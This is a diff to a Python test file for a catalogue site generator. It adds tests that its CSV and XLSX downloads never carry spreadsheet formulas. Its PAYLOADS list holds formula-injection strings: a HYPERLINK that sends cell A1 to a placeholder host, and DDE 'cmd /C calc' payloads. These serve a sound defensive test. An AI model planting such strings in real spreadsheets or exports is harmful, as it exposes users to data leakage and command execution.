@@ -8,12 +8,15 @@ import subprocess
 import sys
 from xml.etree import ElementTree as ET
 
+import pytest
+from hypothesis import HealthCheck, given, settings, strategies as st
 from jsonschema import Draft202012Validator
 
 from conftest import CONTENT, FULL_SERVICE
 from generator import exports, urls
 from generator.catalogue import load_catalogue
 from generator.exports.tables import HEADERS
+from generator.textcheck import bad_character
 from sitehelpers import main_html
 
 CATALOGUE = load_catalogue(CONTENT)
@@ -140,8 +143,64 @@ def test_render_writes_the_downloads_too(tmp_path):
         assert (out / path).stat().st_size > 1000
 
 
-def test_spreadsheet_cells_never_run_as_formulas():
-    from generator.exports.tables import _cell
+PAYLOADS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"点击\")", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+cmd|' /C calc'!A0", "\t=1+1", "  =1+1", "-", "+86 22 2586 9855"]
 
-    assert _cell("=HYPERLINK(\"http://x\")") == "'=HYPERLINK(\"http://x\")"
-    assert _cell("-1") == "-1" and _cell("3-1") == "3-1" and _cell("@x") == "'@x"
+
+def hostile_catalogue(text: str):
+    """The real catalogue, with `text` in every free-text field of its first service."""
+    from dataclasses import replace
+
+    from generator.model import Catalogue
+
+    first = replace(CATALOGUE.services[0], name=text, title=text, boundary=text, responsibility=text,
+                    implementing_body=text, result=text, delivery=text, item_type=text, item_code=text,
+                    aliases=(text,), conditions=(text,))
+    return Catalogue(CATALOGUE.offices, [first, *CATALOGUE.services[1:]], CATALOGUE.themes, CATALOGUE.topics)
+
+
+def spreadsheet_cells(catalogue) -> tuple[list[str], list]:
+    """Every cell of services.csv as a spreadsheet reads the text, and every cell of services.xlsx."""
+    from openpyxl import load_workbook
+
+    from generator.exports.tables import services_csv, services_xlsx
+
+    raw = services_csv(catalogue, SITE, {}).decode("utf-8-sig")
+    csv_cells = [cell for row in csv.reader(io.StringIO(raw)) for cell in row]
+    book = load_workbook(io.BytesIO(services_xlsx(catalogue, SITE, {})))
+    xlsx_cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    return csv_cells, xlsx_cells
+
+
+def assert_no_formula(csv_cells, xlsx_cells, text):
+    from generator.textcheck import starts_like_formula
+
+    assert not [c for c in csv_cells if starts_like_formula(c)]  # a spreadsheet computes none of them
+    assert "'" + text in csv_cells  # ... and the text is there, behind the quote Excel users know
+    assert not [c for c in xlsx_cells if c.data_type == "f"]
+    shown = [c for c in xlsx_cells if c.value == text]
+    assert shown and all(c.data_type == "s" and c.quotePrefix for c in shown)  # as if typed '=...
+
+
+@pytest.mark.parametrize("payload", PAYLOADS)
+def test_spreadsheet_downloads_never_carry_a_formula(payload):
+    assert_no_formula(*spreadsheet_cells(hostile_catalogue(payload)), payload)
+
+
+def test_plain_cells_stay_as_they_are():
+    csv_cells, xlsx_cells = spreadsheet_cells(CATALOGUE)
+    assert "3-1" in csv_cells and not [c for c in csv_cells if c.startswith("'")]
+    assert not [c for c in xlsx_cells if c.quotePrefix]
+
+
+@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
+@given(text=st.one_of(
+    st.text(min_size=1, max_size=30),
+    st.tuples(st.sampled_from(["=", "+", "-", "@", "\t", " =", "\u3000+"]), st.text(max_size=20)).map("".join),
+).filter(lambda t: bad_character(t) is None))
+def test_any_text_in_any_field_opens_without_a_formula(text):
+    from generator.textcheck import starts_like_formula
+
+    csv_cells, xlsx_cells = spreadsheet_cells(hostile_catalogue(text))
+    assert not [c for c in csv_cells if starts_like_formula(c)]
+    assert not [c for c in xlsx_cells if c.data_type == "f"]
